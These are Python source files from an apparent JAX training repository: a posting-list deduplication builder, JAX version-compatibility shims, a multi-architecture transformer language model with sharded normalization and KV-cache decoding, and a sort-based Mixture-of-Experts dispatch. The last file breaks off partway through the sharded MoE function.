    single vectorized fingerprint dispatch over their concatenated tokens.
    """

    def __init__(self, *, ngrams: bool = True, cache_size: int = 65536):
        self.ngrams = ngrams
        self._cache: OrderedDict[str, np.ndarray] = OrderedDict()
        self._cache_cap = cache_size

    def fingerprint_lines(self, lines) -> tuple[np.ndarray, np.ndarray]:
        """(flat fps concatenated line-by-line, per-line token counts)."""
        per_line: list[np.ndarray | None] = []
        miss_lines: list[str] = []
        miss_slots: dict[str, list[int]] = {}
        for i, line in enumerate(lines):
            hit = self._cache.get(line)
            if hit is not None:
                self._cache.move_to_end(line)
                per_line.append(hit)
                continue
            per_line.append(None)
            slots = miss_slots.get(line)
            if slots is None:
                miss_slots[line] = [i]
                miss_lines.append(line)
            else:
                slots.append(i)
        if miss_lines:
            # ASCII lines (the overwhelming majority of log traffic) take
            # the flat-blob path; the rare non-ASCII lines fall back to the
            # per-line columnar pass (UTF-8 byte offsets != char offsets)
            lowers = [line.lower() for line in miss_lines]
            ascii_idx = [i for i, lo in enumerate(lowers) if lo.isascii()]
            chunks: list[np.ndarray | None] = [None] * len(miss_lines)
            if ascii_idx:
                got = _fingerprint_lines_ascii(
                    [lowers[i] for i in ascii_idx], ngrams=self.ngrams)
                for i, chunk in zip(ascii_idx, got):
                    chunks[i] = chunk
            other_idx = [i for i in range(len(miss_lines))
                         if chunks[i] is None]
            if other_idx:
                got = fingerprint_lines_columnar(
                    [miss_lines[i] for i in other_idx], ngrams=self.ngrams)
                for i, chunk in zip(other_idx, got):
                    chunks[i] = chunk
            for line, chunk in zip(miss_lines, chunks):
                for slot in miss_slots[line]:
                    per_line[slot] = chunk
                self._cache[line] = chunk
            while len(self._cache) > self._cache_cap:
                self._cache.popitem(last=False)
        lens = np.fromiter((len(a) for a in per_line), dtype=np.int64,
                           count=len(per_line))
        flat = (np.concatenate(per_line) if per_line
                else np.empty(0, np.uint32))
        return flat, lens


def build_sealed(fps: np.ndarray, postings: np.ndarray,
                 stats: dict | None = None) -> SealedContent:
    """Build deduplicated sealed content from parallel (fp, posting) arrays."""
    fps = np.asarray(fps, dtype=np.uint32)
    postings = np.asarray(postings, dtype=np.int64)
    if fps.shape != postings.shape:
        raise ValueError("fps and postings must be parallel 1-D arrays")
    if fps.size == 0:
        return SealedContent(
            fps=np.empty(0, np.uint32), list_ids=np.empty(0, np.int64),
            lists=[], refcounts=np.empty(0, np.int64), n_postings=0,
            stats=stats or {})

    # 1. unique (fp, posting) pairs, sorted by (fp, posting)
    pairs = (fps.astype(np.uint64) << np.uint64(32)) | postings.astype(np.uint64)
    pairs = np.unique(pairs)
    u_fps = (pairs >> np.uint64(32)).astype(np.uint32)
    u_posts = (pairs & np.uint64(0xFFFFFFFF)).astype(np.int64)

    # 2. group boundaries per fingerprint
    starts = np.flatnonzero(np.r_[True, u_fps[1:] != u_fps[:-1]])
    group_fps = u_fps[starts]
    counts = np.diff(np.r_[starts, len(u_fps)])

    # 3. commutative postings hash per group (vectorized XOR reduce)
    elem_hashes = np_posting_element_hash(u_posts)
    group_hash = np.bitwise_xor.reduceat(elem_hashes, starts)

    # 4. dedup posting lists by (hash, count): lexsort groups so equal-key
    # candidates are adjacent, verify content against each run head with
    # one flat gather + segmented reduce.  Only runs holding a true 64-bit
    # hash collision (same hash AND count, different postings) fall back
    # to the exact per-run host pass.
    ends = starts + counts
    G = len(group_fps)
    order = np.lexsort((counts, group_hash))
    oh, oc = group_hash[order], counts[order]
    same = np.zeros(G, dtype=bool)
    same[1:] = (oh[1:] == oh[:-1]) & (oc[1:] == oc[:-1])
    run_id = np.cumsum(~same) - 1
    head_pos = np.flatnonzero(~same)
    head_of = head_pos[run_id]          # sorted-position of each run head
    rep = np.arange(G, dtype=np.int64)  # canonical group per group
    cand = np.flatnonzero(same)
    if cand.size:
        gi = order[cand]
        hi = order[head_of[cand]]
        lens = counts[gi]
        total = int(lens.sum())
        seg_starts = np.cumsum(lens) - lens
        local = np.arange(total, dtype=np.int64) - np.repeat(seg_starts,
                                                             lens)
        a = u_posts[np.repeat(starts[gi], lens) + local]
        b = u_posts[np.repeat(starts[hi], lens) + local]
        mismatch = np.add.reduceat(a != b, seg_starts) > 0
        rep[gi[~mismatch]] = hi[~mismatch]
        for r in np.unique(run_id[cand[mismatch]]):
            # exact fallback: distinct contents collided on (hash, count)
            members = order[np.flatnonzero(run_id == r)]
            kept: list[int] = []
            for g in members:
                content = u_posts[starts[g]:ends[g]]
                for h in kept:
                    if np.array_equal(u_posts[starts[h]:ends[h]], content):
                        rep[g] = h
                        break
                else:
                    kept.append(g)
                    rep[g] = g
    # assign list ids in first-occurrence (fingerprint-sorted group) order,
    # matching the online sketch's seal()
    uniq_reps, inv = np.unique(rep, return_inverse=True)
    first_gi = np.full(len(uniq_reps), G, dtype=np.int64)
    np.minimum.at(first_gi, inv, np.arange(G, dtype=np.int64))
    by_first = np.argsort(first_gi, kind="stable")
    class_rank = np.empty(len(uniq_reps), dtype=np.int64)
    class_rank[by_first] = np.arange(len(uniq_reps))
    list_ids = class_rank[inv]
    refcounts = np.bincount(list_ids, minlength=len(uniq_reps))
    lists = [u_posts[starts[r]:ends[r]] for r in uniq_reps[by_first]]

    return SealedContent(
        fps=group_fps, list_ids=list_ids, lists=lists,
        refcounts=refcounts.astype(np.int64),
        n_postings=int(u_posts.max()) + 1 if len(u_posts) else 0,
        stats=stats or {})


def build_sealed_from_lines(token_sets, *, stats: dict | None = None
                            ) -> SealedContent:
    """Convenience: ``token_sets[i]`` is the token-fingerprint set of posting
    ``i``; flattens into parallel arrays and batch-builds."""
    fp_chunks, post_chunks = [], []
    for pid, fp_set in enumerate(token_sets):
        arr = np.fromiter(fp_set, dtype=np.uint32, count=len(fp_set))
        fp_chunks.append(arr)
        post_chunks.append(np.full(arr.shape, pid, dtype=np.int64))
    if not fp_chunks:
        return build_sealed(np.empty(0, np.uint32), np.empty(0, np.int64),
                            stats)
    return build_sealed(np.concatenate(fp_chunks),
                        np.concatenate(post_chunks), stats)
