"""Compatibility shims for JAX APIs that moved between releases.

The repo targets the modern spellings (``jax.set_mesh``, ``jax.shard_map``
with ``check_vma``), but the pinned container ships an older JAX where the
sharding context manager does not exist and ``shard_map`` lives under
``jax.experimental`` with a required ``mesh`` argument and the ``check_rep``
keyword.  Import these wrappers instead of calling ``jax.*`` directly.
"""
from __future__ import annotations

import contextlib

import jax


def set_mesh(mesh):
    """``jax.set_mesh`` when available, else a no-op context.  Call sites
    pair this with the legacy ``with mesh:`` context, which older JAX uses
    to resolve axis names."""
    if hasattr(jax, "set_mesh"):
        return jax.set_mesh(mesh)
    return contextlib.nullcontext()


def _context_mesh():
    """The mesh installed by the enclosing legacy ``with mesh:`` block."""
    from jax._src import mesh as mesh_lib
    m = mesh_lib.thread_resources.env.physical_mesh
    return None if m.empty else m


def shard_map(f, mesh=None, *, in_specs, out_specs, check_vma=False):
    if hasattr(jax, "shard_map"):
        kw = dict(in_specs=in_specs, out_specs=out_specs,
                  check_vma=check_vma)
        if mesh is not None:
            kw["mesh"] = mesh
        return jax.shard_map(f, **kw)
    from jax.experimental.shard_map import shard_map as _shard_map
    if mesh is None:
        mesh = _context_mesh()
    if mesh is None:
        raise ValueError("shard_map needs a mesh: pass one explicitly or "
                         "call inside a `with mesh:` block")
    return _shard_map(f, mesh=mesh, in_specs=in_specs, out_specs=out_specs,
                      check_rep=check_vma)
