"""Configurable LM-family transformer covering the five assigned archs:

  gemma2-9b   : GQA, local(4096)+global alternating attention, attn-logit
                softcap 50, final-logit softcap 30, sandwich norms, tied
                embeddings, d_head 256.
  olmo-1b     : MHA (kv=16), non-parametric LayerNorm, tied embeddings.
  llama3-8b   : GQA kv=8, SwiGLU, RMSNorm, 128k vocab, rope 500k.
  phi3.5-moe  : GQA kv=8, 16-expert top-2 MoE FFN.
  arctic-480b : GQA kv=8, 128-expert top-2 MoE + parallel dense-residual FFN.

Pure JAX (no flax): params are nested dicts with a stacked leading layer dim
so the whole stack runs under one lax.scan (compile-time O(1) in depth) with
jax.checkpoint remat.  Training uses microbatched gradient accumulation and
sequence-chunked cross-entropy so 256k-vocab logits never materialize.
"""
from __future__ import annotations

from dataclasses import dataclass, field, replace

import jax
import jax.numpy as jnp

from .attention import attention_block
from .layers import (cross_entropy_loss, dense_init, embed_init,
                     layer_norm_nonparam, rms_norm, softcap)
from .moe import moe_ffn


@dataclass(frozen=True)
class LMConfig:
    name: str
    n_layers: int
    d_model: int
    n_heads: int
    n_kv_heads: int
    d_ff: int
    vocab: int
    d_head: int | None = None          # default d_model // n_heads
    rope_theta: float = 10000.0
    norm: str = "rms"                  # "rms" | "nonparam"
    post_norm: bool = False            # gemma2 sandwich norms
    attn_softcap: float | None = None
    final_softcap: float | None = None
    sliding_window: int | None = None  # window for local layers
    local_global_period: int = 0       # 0: all global; 2: alternate (gemma2)
    tie_embeddings: bool = True
    embed_scale: bool = False          # gemma: x *= sqrt(d_model)
    # MoE
    n_experts: int = 0
    top_k: int = 2
    moe_dff: int | None = None
    dense_residual: bool = False       # arctic: dense FFN in parallel to MoE
    dense_residual_dff: int | None = None
    capacity_factor: float = 1.25
    # numerics / scheduling
    dtype: str = "bfloat16"
    q_chunk: int = 512
    kv_chunk: int = 1024
    ce_chunk: int = 512
    aux_loss_weight: float = 0.01
    # scan_layers=False unrolls the layer stack (python loop).  Used by the
    # dry-run analysis pass: XLA's cost model counts while-loop bodies ONCE
    # regardless of trip count, so roofline FLOPs are extracted from small
    # unrolled variants and fit linearly in n_layers (see launch/dryrun.py).
    scan_layers: bool = True
    # mesh-aware MoE dispatch (set by launch/steps.build_bundle): when
    # moe_expert_axis is set, _ffn uses the shard_map expert-parallel
    # dispatch (moe.moe_ffn_sharded) instead of the single-device global
    # sort dispatch.
    moe_batch_axes: tuple | None = None
    moe_expert_axis: str | None = None
    moe_fsdp_axis: str | None = None
    moe_expert_parallel: int | None = None   # mesh size of the expert axis
    # pin the residual stream to (batch over data, d_model over model) —
    # 2D activation sharding.  Without this GSPMD dropped the batch
    # sharding of the remat carry stack on gemma2/arctic (replicating the
    # microbatch per chip, 9+ GiB); sharding d_model over 'model' between
    # blocks additionally divides the remat stacks by the TP degree (XLA
    # inserts the all-gather before QKV and reduce-scatter after wo — same
    # wire bytes as the Megatron all-reduce it replaces).
    act_batch_axes: tuple | None = None
    act_model_axis: str | None = None
    # sequence-parallel attention core (It. 7): set for archs whose head
    # counts don't divide the TP axis, where the core would otherwise run
    # replicated on every model shard.
    attn_seq_parallel: bool = False

    @property
    def head_dim(self) -> int:
        return self.d_head or self.d_model // self.n_heads

    @property
    def compute_dtype(self):
        return jnp.dtype(self.dtype)

    def layer_is_local(self, i: int) -> bool:
        return (self.local_global_period > 0
                and i % self.local_global_period == 0
                and self.sliding_window is not None)

    @property
    def is_moe(self) -> bool:
        return self.n_experts > 0

    def param_count(self) -> int:
        """Analytic N (all params)."""
        d, dh = self.d_model, self.head_dim
        attn = d * (self.n_heads + 2 * self.n_kv_heads) * dh \
            + self.n_heads * dh * d
        if self.is_moe:
            f = self.moe_dff or self.d_ff
            ffn = self.n_experts * 3 * d * f + d * self.n_experts
            if self.dense_residual:
                ffn += 3 * d * (self.dense_residual_dff or self.d_ff)
        else:
            ffn = 3 * d * self.d_ff
        per_layer = attn + ffn
        emb = self.vocab * d * (1 if self.tie_embeddings else 2)
        return self.n_layers * per_layer + emb

    def active_param_count(self) -> int:
        """N_active (MoE: only routed experts) for MODEL_FLOPS = 6*N_a*D."""
        if not self.is_moe:
            return self.param_count()
        d = self.d_model
        f = self.moe_dff or self.d_ff
        attn = d * (self.n_heads + 2 * self.n_kv_heads) * self.head_dim \
            + self.n_heads * self.head_dim * d
        ffn = self.top_k * 3 * d * f + d * self.n_experts
        if self.dense_residual:
            ffn += 3 * d * (self.dense_residual_dff or self.d_ff)
        emb = self.vocab * d * (1 if self.tie_embeddings else 2)
        return self.n_layers * (attn + ffn) + emb


# --------------------------------------------------------------------- init
def init_params(cfg: LMConfig, rng):
    """Stacked-layer param pytree; usable under jax.eval_shape."""
    dt = cfg.compute_dtype
    d, dh, l = cfg.d_model, cfg.head_dim, cfg.n_layers
    ks = jax.random.split(rng, 16)

    def stack(key, shape, fan_in):
        return (jax.random.normal(key, (l, *shape), jnp.float32)
                * (fan_in ** -0.5)).astype(dt)

    layer = {
        "wq": stack(ks[0], (d, cfg.n_heads * dh), d),
        "wk": stack(ks[1], (d, cfg.n_kv_heads * dh), d),
        "wv": stack(ks[2], (d, cfg.n_kv_heads * dh), d),
        "wo": stack(ks[3], (cfg.n_heads * dh, d), cfg.n_heads * dh),
        "ln_attn": jnp.zeros((l, d), dt),
        "ln_ffn": jnp.zeros((l, d), dt),
    }
    if cfg.post_norm:
        layer["ln_attn_post"] = jnp.zeros((l, d), dt)
        layer["ln_ffn_post"] = jnp.zeros((l, d), dt)
    if cfg.is_moe:
        f = cfg.moe_dff or cfg.d_ff
        layer["moe"] = {
            "router": stack(ks[4], (d, cfg.n_experts), d),
            "w_gate": stack(ks[5], (cfg.n_experts, d, f), d),
            "w_up": stack(ks[6], (cfg.n_experts, d, f), d),
            "w_down": stack(ks[7], (cfg.n_experts, f, d), f),
        }
        if cfg.dense_residual:
            fd = cfg.dense_residual_dff or cfg.d_ff
            layer["dense"] = {
                "w_gate": stack(ks[8], (d, fd), d),
                "w_up": stack(ks[9], (d, fd), d),
                "w_down": stack(ks[10], (fd, d), fd),
            }
    else:
        layer["mlp"] = {
            "w_gate": stack(ks[5], (d, cfg.d_ff), d),
            "w_up": stack(ks[6], (d, cfg.d_ff), d),
            "w_down": stack(ks[7], (cfg.d_ff, d), cfg.d_ff),
        }
    params = {
        "embed": embed_init(ks[11], cfg.vocab, d, dt),
        "layers": layer,
        "ln_final": jnp.zeros((d,), dt),
    }
    if not cfg.tie_embeddings:
        params["unembed"] = dense_init(ks[12], d, cfg.vocab, dt)
    return params


# ------------------------------------------------------------------ forward
def _norm(cfg: LMConfig, x, w):
    if cfg.act_model_axis is not None and x.ndim == 3 \
            and x.shape[-1] == cfg.d_model:
        return _norm_sharded(cfg, x, w)
    if cfg.norm == "nonparam":
        return layer_norm_nonparam(x)
    return rms_norm(x, w)


def _norm_sharded(cfg: LMConfig, x, w):
    """Norm over the model-sharded d_model axis via shard_map.

    Why: with 2D activation sharding GSPMD preferred to ALL-GATHER the
    f32 pre-norm tensor and normalize replicated — 2x wire (f32) and 10+
    gathers/layer on gemma2 train (EXPERIMENTS.md §Perf iteration 2/3).
    Computing the reduction per shard (one scalar-row psum) keeps every
    cross-shard tensor bf16 and moves only (B, S, 1) floats for the
    statistics."""
    from jax.sharding import PartitionSpec as P
    bd, ma = cfg.act_batch_axes, cfg.act_model_axis
    spec = P(bd, None, ma)
    d = cfg.d_model
    eps = 1e-6 if cfg.norm == "rms" else 1e-5
    nonparam = cfg.norm == "nonparam"

    def inner(xs, ws):
        x32 = xs.astype(jnp.float32)
        if nonparam:
            s1 = jax.lax.psum(jnp.sum(x32, -1, keepdims=True), ma)
            mu = s1 / d
            s2 = jax.lax.psum(jnp.sum(jnp.square(x32 - mu), -1,
                                      keepdims=True), ma)
            nrm = (x32 - mu) * jax.lax.rsqrt(s2 / d + eps)
        else:
            ssq = jax.lax.psum(jnp.sum(jnp.square(x32), -1,
                                       keepdims=True), ma)
            nrm = x32 * jax.lax.rsqrt(ssq / d + eps)
            nrm = nrm * (1.0 + ws.astype(jnp.float32))
        return nrm.astype(xs.dtype)

    if w is None or nonparam:
        w = jnp.zeros((d,), x.dtype)
    from ..jax_compat import shard_map
    return shard_map(inner, in_specs=(spec, P(ma)), out_specs=spec,
                     check_vma=False)(x, w)


def _constrain_act(cfg: LMConfig, x):
    if cfg.act_batch_axes:
        from jax.sharding import PartitionSpec as P
        spec = P(cfg.act_batch_axes,
                 *([None] * (x.ndim - 2)), cfg.act_model_axis)
        return jax.lax.with_sharding_constraint(x, spec)
    return x


def _ffn(cfg: LMConfig, x, lw):
    b, s, d = x.shape
    if cfg.is_moe:
        if cfg.moe_expert_axis is not None:
            from .moe import moe_ffn_sharded
            y, aux = moe_ffn_sharded(
                x.reshape(b * s, d), lw["moe"],
                n_experts=cfg.n_experts, top_k=cfg.top_k,
                capacity_factor=cfg.capacity_factor,
                batch_axes=cfg.moe_batch_axes or ("data",),
                expert_axis=cfg.moe_expert_axis,
                fsdp_axis=cfg.moe_fsdp_axis,
                expert_parallel=cfg.moe_expert_parallel)
        else:
            y, aux = moe_ffn(x.reshape(b * s, d), lw["moe"],
                             n_experts=cfg.n_experts, top_k=cfg.top_k,
                             capacity_factor=cfg.capacity_factor)
        y = y.reshape(b, s, d)
        if cfg.dense_residual:
            dw = lw["dense"]
            y = y + (jax.nn.silu(x @ dw["w_gate"]) * (x @ dw["w_up"])) \
                @ dw["w_down"]
        return y, aux
    mw = lw["mlp"]
    return (jax.nn.silu(x @ mw["w_gate"]) * (x @ mw["w_up"])) \
        @ mw["w_down"], jnp.float32(0.0)


def _layer(cfg: LMConfig, x, lw, is_local, *, positions=None,
           kv_cache=None, cache_len=None):
    """One transformer block.  is_local: scalar bool (traced) selecting the
    sliding-window mask.  Returns (x', new_kv, aux)."""
    x = _constrain_act(cfg, x)

    def _boundary(h):
        # Pin the bf16 post-norm value so XLA cannot hoist the f32->bf16
        # convert past the model-axis all-gather: without this the
        # activation gathers move f32 (2x wire, measured on gemma2
        # train_4k — EXPERIMENTS.md §Perf iteration 2).
        return jax.lax.optimization_barrier(h) if cfg.act_batch_axes \
            else h

    window = cfg.sliding_window
    if cfg.local_global_period > 0 and window is not None:
        # one scan body for local+global alternation: the window is a
        # *traced* scalar — local layers use cfg.sliding_window, global
        # layers an effectively-infinite window.  Single attention call,
        # honest FLOPs.
        window = jnp.where(is_local, jnp.int32(window), jnp.int32(1 << 30))
    h = _boundary(_norm(cfg, x, lw["ln_attn"]))
    seq_par = None
    if cfg.attn_seq_parallel and kv_cache is None \
            and cfg.act_batch_axes and cfg.act_model_axis:
        seq_par = (cfg.act_batch_axes, cfg.act_model_axis)
    a, new_kv = attention_block(
        h, lw, n_heads=cfg.n_heads, n_kv_heads=cfg.n_kv_heads,
        d_head=cfg.head_dim, rope_theta=cfg.rope_theta,
        window=window, attn_softcap=cfg.attn_softcap,
        positions=positions, kv_cache=kv_cache, cache_len=cache_len,
        q_chunk=cfg.q_chunk, kv_chunk=cfg.kv_chunk,
        seq_parallel=seq_par)
    if cfg.post_norm:
        a = _norm(cfg, a, lw["ln_attn_post"])
    x = x + a
    h2 = _boundary(_norm(cfg, x, lw["ln_ffn"]))
    y, aux = _ffn(cfg, h2, lw)
    if cfg.post_norm:
        y = _norm(cfg, y, lw["ln_ffn_post"])
    return x + y, new_kv, aux


def forward(cfg: LMConfig, params, tokens, *, positions=None,
            return_kv: bool = False, remat: bool = True):
    """tokens (B, S) -> final hidden (B, S, D), aux loss, and (optionally)
    stacked (L, ...) K/V for cache construction (prefill)."""
    x = params["embed"][tokens]
    if cfg.embed_scale:
        x = (x.astype(jnp.float32) * (cfg.d_model ** 0.5)).astype(x.dtype)
    x = _constrain_act(cfg, x)
    is_local = jnp.asarray(
        [cfg.layer_is_local(i) for i in range(cfg.n_layers)])

    def body(carry, per_layer):
        x, aux = carry
        lw, loc = per_layer
        x, kv, a = _layer(cfg, x, lw, loc, positions=positions)
        return (_constrain_act(cfg, x), aux + a), (kv if return_kv else None)

    body_fn = jax.checkpoint(body) if remat else body
    if cfg.scan_layers:
        (x, aux), kvs = jax.lax.scan(body_fn, (x, jnp.float32(0.0)),
                                     (params["layers"], is_local))
    else:  # unrolled: analysis mode (honest HLO cost counting)
        carry, kv_list = (x, jnp.float32(0.0)), []
        for i in range(cfg.n_layers):
            lw = jax.tree.map(lambda a: a[i], params["layers"])
            carry, kv = body_fn(carry, (lw, is_local[i]))
            kv_list.append(kv)
        (x, aux) = carry
        kvs = (jax.tree.map(lambda *xs: jnp.stack(xs),
                            *kv_list) if return_kv else None)
    x = _norm(cfg, x, params["ln_final"])
    return x, aux, kvs


def _unembed(cfg: LMConfig, params, h):
    w = (params["embed"].T if cfg.tie_embeddings else params["unembed"])
    logits = h @ w
    return softcap(logits, cfg.final_softcap)


def chunked_ce_loss(cfg: LMConfig, params, h, labels, mask):
    """Sequence-chunked CE: logits only ever exist for ce_chunk positions."""
    b, s, d = h.shape
    c = min(cfg.ce_chunk, s)
    n = s // c

    def step(carry, i):
        tot, cnt = carry
        hs = jax.lax.dynamic_slice_in_dim(h, i * c, c, axis=1)
        ls = jax.lax.dynamic_slice_in_dim(labels, i * c, c, axis=1)
        ms = jax.lax.dynamic_slice_in_dim(mask, i * c, c, axis=1)
        logits = _unembed(cfg, params, hs).astype(jnp.float32)
        logz = jax.scipy.special.logsumexp(logits, axis=-1)
        gold = jnp.take_along_axis(logits, ls[..., None], axis=-1)[..., 0]
        m = ms.astype(jnp.float32)
        return (tot + jnp.sum((logz - gold) * m), cnt + jnp.sum(m)), None

    (tot, cnt), _ = jax.lax.scan(step, (jnp.float32(0.), jnp.float32(0.)),
                                 jnp.arange(n))
    return tot / jnp.maximum(cnt, 1.0)


def lm_loss(cfg: LMConfig, params, batch):
    """batch: dict(tokens (B, S) int32, labels (B, S) int32,
    mask (B, S) — labels already shifted)."""
    h, aux, _ = forward(cfg, params, batch["tokens"])
    ce = chunked_ce_loss(cfg, params, h, batch["labels"], batch["mask"])
    return ce + cfg.aux_loss_weight * aux / cfg.n_layers, ce


# ------------------------------------------------------------------ serving
def init_cache(cfg: LMConfig, batch: int, max_len: int, dtype=None):
    dtype = dtype or cfg.compute_dtype
    shape = (cfg.n_layers, batch, max_len, cfg.n_kv_heads, cfg.head_dim)
    return {"k": jnp.zeros(shape, dtype), "v": jnp.zeros(shape, dtype)}


def prefill(cfg: LMConfig, params, tokens):
    """tokens (B, S) -> (cache filled to S, last-position logits)."""
    h, _, kvs = forward(cfg, params, tokens, return_kv=True)
    cache = {"k": kvs[0], "v": kvs[1]}  # (L, B, S, Hkv, Dh)
    logits = _unembed(cfg, params, h[:, -1:, :])
    return cache, logits[:, 0]


def decode_step(cfg: LMConfig, params, cache, tokens, cache_len):
    """One greedy decode step.  tokens (B,) int32; cache dict of
    (L, B, S, Hkv, Dh); cache_len scalar int32 = #valid positions.
    Returns (new_cache, next_tokens (B,), logits (B, V))."""
    x = params["embed"][tokens[:, None]]
    if cfg.embed_scale:
        x = (x.astype(jnp.float32) * (cfg.d_model ** 0.5)).astype(x.dtype)
    is_local = jnp.asarray(
        [cfg.layer_is_local(i) for i in range(cfg.n_layers)])

    def body(x, per_layer):
        lw, loc, kc, vc = per_layer
        x, (kc, vc), _ = _layer(cfg, x, lw, loc, kv_cache=(kc, vc),
                                cache_len=cache_len)
        return x, (kc, vc)

    if cfg.scan_layers:
        x, (knew, vnew) = jax.lax.scan(
            body, x, (params["layers"], is_local, cache["k"], cache["v"]))
    else:
        ks_, vs_ = [], []
        for i in range(cfg.n_layers):
            lw = jax.tree.map(lambda a: a[i], params["layers"])
            x, (kc, vc) = body(x, (lw, is_local[i], cache["k"][i],
                                   cache["v"][i]))
            ks_.append(kc)
            vs_.append(vc)
        knew, vnew = jnp.stack(ks_), jnp.stack(vs_)
    x = _norm(cfg, x, params["ln_final"])
    logits = _unembed(cfg, params, x)[:, 0].astype(jnp.float32)
    nxt = jnp.argmax(logits, axis=-1).astype(jnp.int32)
    return {"k": knew, "v": vnew}, nxt, logits
