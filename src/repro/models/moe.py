"""Mixture-of-Experts FFN: top-k router + capacity-bounded sort dispatch.

Design notes (TPU/roofline-driven):
  * Dispatch is *sort-based* (GShard/MaxText style), not dense-einsum: the
    dense one-hot formulation multiplies HLO FLOPs by E/top_k (8x for
    phi3.5-moe, 64x for arctic), destroying the useful-FLOPs roofline term.
    Sort dispatch keeps expert GEMM FLOPs proportional to *activated*
    parameters: E * capacity * d * f with capacity ~= T*top_k/E * cf.
  * Expert weights carry a leading E dim sharded over the 'model' mesh axis
    (expert parallelism); the scatter/gather around the expert GEMM is what
    becomes the all-to-all under SPMD partitioning.
  * Tokens overflowing an expert's capacity are dropped (standard GShard
    semantics); the router keeps a load-balancing auxiliary loss.
"""
from __future__ import annotations

import jax
import jax.numpy as jnp
from jax.sharding import PartitionSpec as P


def moe_ffn(x, w, *, n_experts: int, top_k: int,
            capacity_factor: float = 1.25, act=jax.nn.silu):
    """x: (T, D) tokens; w: dict(router (D, E), w_gate/w_up (E, D, F),
    w_down (E, F, D)).  Returns (out (T, D), aux_loss scalar)."""
    t, d = x.shape
    e = n_experts
    capacity = max(int(t * top_k / e * capacity_factor + 0.5), 1)
    capacity = min(capacity, t)

    logits = (x @ w["router"]).astype(jnp.float32)          # (T, E)
    probs = jax.nn.softmax(logits, axis=-1)
    gate, idx = jax.lax.top_k(probs, top_k)                 # (T, K)
    gate = gate / jnp.maximum(gate.sum(-1, keepdims=True), 1e-9)

    # load-balance aux loss (Switch): E * mean(frac_tokens * frac_probs)
    me = jnp.mean(probs, axis=0)
    ce = jnp.mean(jax.nn.one_hot(idx[:, 0], e, dtype=jnp.float32), axis=0)
    aux = e * jnp.sum(me * ce)

    # ---- sort-based dispatch -------------------------------------------
    flat_e = idx.reshape(-1)                                # (T*K,)
    flat_t = jnp.repeat(jnp.arange(t), top_k)
    flat_g = gate.reshape(-1)
    order = jnp.argsort(flat_e, stable=True)
    se, st = flat_e[order], flat_t[order]
    # position of each routed token inside its expert's queue
    ones = jnp.ones_like(se)
    pos_in_e = jnp.cumsum(ones) - 1
    start = jnp.searchsorted(se, jnp.arange(e))             # (E,)
    pos_in_e = pos_in_e - start[se]
    keep = pos_in_e < capacity
    dest = jnp.where(keep, se * capacity + pos_in_e, e * capacity)

    buf = jnp.zeros((e * capacity + 1, d), x.dtype)
    buf = buf.at[dest].set(x[st], mode="drop")
    buf = buf[:-1].reshape(e, capacity, d)                  # (E, C, D)

    # ---- expert GEMMs (sharded over 'model' on the E dim) --------------
    h = jnp.einsum("ecd,edf->ecf", buf, w["w_gate"])
    u = jnp.einsum("ecd,edf->ecf", buf, w["w_up"])
    y = jnp.einsum("ecf,efd->ecd", act(h) * u, w["w_down"]) # (E, C, D)

    # ---- combine back to token order ------------------------------------
    y_flat = y.reshape(e * capacity, d)
    gathered = jnp.where(keep[:, None],
                         y_flat[jnp.clip(dest, 0, e * capacity - 1)],
                         jnp.zeros((1, d), y_flat.dtype))
    sg = flat_g[order]
    contrib = gathered * sg[:, None].astype(gathered.dtype)
    out = jnp.zeros((t, d), jnp.float32).at[st].add(
        contrib.astype(jnp.float32))
    return out.astype(x.dtype), aux


# -------------------------------------------------------- sharded variant
def moe_ffn_sharded(x, w, *, n_experts: int, top_k: int,
                    capacity_factor: float = 1.25, act=jax.nn.silu,
                    batch_axes=("data",), expert_axis="model",
                    fsdp_axis=None, expert_parallel: int | None = None):
    """Expert-parallel MoE via shard_map — the 1000-node dispatch path.

    Motivation (measured, see EXPERIMENTS.md §Perf): the global sort-based
    dispatch above is correct but GSPMD cannot shard a data-dependent
    argsort/scatter over tokens, so it all-gathers every token array —
    on arctic-480b that replicated the microbatch 16x (55 GiB/chip) and
    made the step collective-bound.

    Layout contract:
      x        (T, D)    sharded P(batch_axes, None)
      router   (D, E)    replicated
      w_gate/up(E, D, F) sharded P(expert_axis, fsdp_axis, None)
      w_down   (E, F, D) sharded P(expert_axis, None, fsdp_axis)

    Device (d, m) holds token shard d (replicated over m) and expert shard
    m.  Dispatch is a purely LOCAL sort+scatter into that shard's experts
    (capacity per data-shard); the only collectives are the FSDP weight
    all-gather and one psum over the expert axis for the combine — the
    a2a pattern of GShard realized as gather-free selection because tokens
    are already replicated along the expert axis.
    """
    if expert_parallel is None:
        mesh = jax.sharding.get_abstract_mesh()
        expert_parallel = mesh.shape[expert_axis]
    m_size = expert_parallel
    e_local = n_experts // m_size
    assert e_local * m_size == n_experts, (n_experts, m_size)

    xp = P(batch_axes, None)
    wg_spec = P(expert_axis, fsdp_axis, None)
    wd_spec = P(expert_axis, None, fsdp_axis)

    def inner(xs, router, wg, wu, wd):
        tl, d = xs.shape
        if fsdp_axis is not None:
            wg = jax.lax.all_gather(wg, fsdp_axis, axis=1, tiled=True)
            wu = jax.lax.all_gather(wu, fsdp_axis, axis=1, tiled=True)
            wd = jax.lax.all_gather(wd, fsdp_axis, axis=2, tiled=True)
        midx = jax.lax.axis_index(expert_axis)
        capacity = max(int(tl * top_k / n_experts * capacity_factor + 0.5),
                       4)
        capacity = min(capacity, tl)

        logits = (xs @ router).astype(jnp.float32)
        probs = jax.nn.softmax(logits, axis=-1)
        gate, idx = jax.lax.top_k(probs, top_k)
        gate = gate / jnp.maximum(gate.sum(-1, keepdims=True), 1e-9)

        me = jnp.mean(probs, axis=0)
        ce = jnp.mean(jax.nn.one_hot(idx[:, 0], n_experts,
                                     dtype=jnp.float32), axis=0)
        aux = n_experts * jnp.sum(me * ce)
        aux = jax.lax.pmean(aux, batch_axes)

        # local selection of THIS shard's experts
        flat_e = idx.reshape(-1)
        flat_t = jnp.repeat(jnp.arange(tl), top_k)
        flat_g = gate.reshape(-1)
        rel = flat_e - midx * e_local
        local = (rel >= 0) & (rel < e_local)
        le = jnp.where(local, rel, e_local)          # e_local = drop bucket
        order = jnp.argsort(le, stable=True)
        se, st, sg = le[order], flat_t[order], flat_g[order]
        pos = (jnp.cumsum(jnp.ones_like(se)) - 1
               - jnp.searchsorted(se, jnp.arange(e_local + 1))[se])
        keep = (se < e_local) & (pos < capacity)
        dest = jnp.where(keep, se * capacity + pos, e_local * capacity)

        buf = jnp.zeros((e_local * capacity + 1, d), xs.dtype)
        buf = buf.at[dest].set(xs[st], mode="drop")
